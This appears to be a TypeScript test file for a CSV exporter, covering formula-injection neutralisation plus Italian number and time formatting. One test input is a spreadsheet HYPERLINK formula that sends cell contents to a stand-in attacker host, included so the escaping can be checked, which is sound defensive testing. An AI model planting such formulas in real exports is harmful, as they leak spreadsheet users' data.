import { csvStringifier, neutraliseFormula } from './csv-format';

describe('CSV cells and formulas', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+39 011 123456', "'+39 011 123456"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['Bar Sport = buono', 'Bar Sport = buono'],
    ['', ''],
  ])('writes %j as %j', (typed, written) => {
    expect(neutraliseFormula(typed)).toBe(written);
  });

  it('leaves numbers alone, negative ones included', async () => {
    const csv = csvStringifier([
      { key: 'name', header: 'Nome' },
      { key: 'delta', header: 'Scarto' },
    ]);
    const chunks: string[] = [];
    csv.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
    const done = new Promise((resolve) => csv.on('end', resolve));
    csv.write({ name: '=1+1', delta: -3.5 });
    csv.end();
    await done;
    expect(chunks.join('').slice(1).split('\n')[1]).toBe("'=1+1;-3,5");
  });

  it('writes instants in Italian time with their offset', async () => {
    const csv = csvStringifier([{ key: 'start', header: 'Inizio' }]);
    const chunks: string[] = [];
    csv.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
    const done = new Promise((resolve) => csv.on('end', resolve));
    csv.write({ start: new Date('2026-11-05T23:00:00.000Z') });
    csv.end();
    await done;
    expect(chunks.join('').slice(1).split('\n')[1]).toBe('2026-11-06T00:00:00.000+01:00');
  });
});
